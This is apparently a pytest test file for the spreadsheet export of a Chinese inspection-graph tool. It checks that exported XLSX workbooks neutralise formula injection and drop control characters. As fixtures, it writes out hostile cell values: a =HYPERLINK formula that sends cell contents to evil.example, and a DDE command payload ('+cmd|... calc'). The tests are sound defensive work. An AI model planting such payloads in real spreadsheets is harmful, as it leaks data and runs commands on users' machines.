"""Spreadsheets for people are safe to open: no live formulas, no control characters.

Hostile strings (``=HYPERLINK(…)``, ``=1+1``, ``+cmd|…``, ``@SUM``, a leading
tab or CR, raw control characters) are put into the graph; the XLSX export and
the plan workbook are read back with openpyxl and unzipped: no cell is a
formula, each hostile text reads back as ``'`` + the text, control characters
are gone, and a negative amount is still a number.
"""

from __future__ import annotations

import zipfile
from pathlib import Path

import pytest

from xuncha.export import export
from xuncha.graph.build import build_graph
from xuncha.graph.store import GraphStore
from xuncha.loaders.dataset import load_dataset

MINI = Path(__file__).resolve().parent / "data" / "mini"

HOSTILE = {
    ("unit:U001", "name"): '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
    ("cadre:C001", "rank"): "=1+1",
    ("issue:I1", "description"): "+cmd|' /C calc'!A0",
    ("action:A1", "measure"): "@SUM(1,2)",
    ("round:R1", "name"): "\t=2+3",
    ("team:T1", "name"): "\r=4+5",
    ("unit:U002", "sector"): "-2+3",
}


@pytest.fixture
def hostile():
    ds = load_dataset(MINI)
    assert not ds.errors
    store = GraphStore(build_graph(ds.records))
    g = store.graph
    for (nid, key), value in HOSTILE.items():
        g.nodes[nid][key] = value
    g.nodes["unit:U003"]["name"] = "青石\x00镇\x1b[31m\x07红"
    g.nodes["issue:I2"]["amount"] = -5.0
    return store


def _no_formulas(path: Path) -> None:
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/"):
                xml = z.read(name).decode("utf-8")
                assert "<f>" not in xml and "<f " not in xml, name


def test_xlsx_export_neutralises_formulas_and_drops_control_characters(hostile, tmp_path):
    import openpyxl

    out = tmp_path / "g.xlsx"
    export(hostile, "xlsx", out)
    _no_formulas(out)
    wb = openpyxl.load_workbook(out)  # would raise on illegal characters in the XML
    cells = {}
    for ws in wb:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                cells.setdefault(c.value, []).append(c)
    for value in HOSTILE.values():
        value = value.replace("\r", "\n")  # XML keeps no bare CR
        assert "'" + value in cells, value
        assert value not in cells, value
    assert "青石镇[31m红" in cells and not any(isinstance(v, str) and "\x00" in v for v in cells)
    issues = list(wb["问题"].iter_rows(values_only=True))
    i2 = dict(zip(issues[0], next(r for r in issues if r[0] == "issue:I2")))
    assert i2["涉及金额"] == -5 and isinstance(i2["涉及金额"], (int, float))  # a number, not text
    # The edge sheets' end labels are neutralised too.
    found = list(wb["关系-被巡察单位"].iter_rows(values_only=True))
    assert any(r[3] == "'" + HOSTILE[("unit:U001", "name")][:39] + "…"
               or r[3] == "'" + HOSTILE[("unit:U001", "name")] for r in found[1:])


def test_plan_workbook_neutralises_formulas(tmp_path):
    import openpyxl

    from xuncha.planning.io import write_xlsx

    out = tmp_path / "plan.xlsx"
    write_xlsx(out, {"plan": [{"team_id": "=1+1", "unit_id": "U1", "score": -2.5,
                               "reasons": ["@x", "ok"], "note": "a\x00b"}]})
    _no_formulas(out)
    ws = openpyxl.load_workbook(out)["plan"]
    row = [c.value for c in ws[2]]
    assert row == ["'=1+1", "U1", -2.5, "'@x;ok", "ab"]
